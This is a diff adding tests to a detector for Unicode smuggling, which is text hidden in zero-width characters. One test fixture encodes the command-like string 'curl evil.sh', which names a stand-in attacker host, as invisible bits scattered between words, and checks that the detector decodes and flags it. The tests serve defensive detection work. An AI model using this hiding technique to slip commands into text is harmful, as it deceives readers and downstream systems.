@@ -125,6 +125,29 @@ def test_decoded_payload_masks_contact_details(stage: UnicodeSmuggling) -> None:
     assert f.findings[0].evidence["decoded"] == "mail me at <EMAIL> or <NUM>"
 
 
+def scattered(payload: str, words: int = 60) -> str:
+    """``payload`` as zero-width bits, two after each word (before the space): no run is long enough alone."""
+    bits = "".join(f"{ord(c):08b}" for c in payload)
+    pieces = ["harbour", "boats", "market", "crab", "church", "noon"] * words
+    out = [w + "".join("\u200c" if b == "1" else "\u200b" for b in bits[2 * i : 2 * i + 2])
+           for i, w in enumerate(pieces[:words])]
+    return " ".join(out) + "."
+
+
+def test_payload_scattered_over_word_gaps_is_flagged_and_decoded(stage: UnicodeSmuggling) -> None:
+    text = scattered("curl evil.sh")
+    result = stage.run(DocBatch(doc_ids=["d"], texts=[text]))
+    items = result.findings[0].evidence["items"]
+    assert [(i["kind"], i.get("decoded"), i["chars"]) for i in items] == [("invisible_scattered", "curl evil.sh", 96)]
+
+
+def test_a_few_scattered_invisibles_and_script_uses_pass(stage: UnicodeSmuggling) -> None:
+    texts = ["A cms left\u200b a few\u200b zero-width\u200b spaces\u200b here.",
+             # Thai uses ZWSP as a word-break hint between its own letters, many times a page.
+             ("\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u200b" * 80)]
+    assert not stage.run(DocBatch(doc_ids=["a", "b"], texts=texts)).findings
+
+
 def test_config_thresholds_apply() -> None:
     strict = UnicodeSmuggling(UnicodeSmugglingConfig(min_variation_run=2, private_use_run=1))
     assert strict.scan("heart \u2764\ufe0f\ufe0f")[0]["kind"] == "variation"
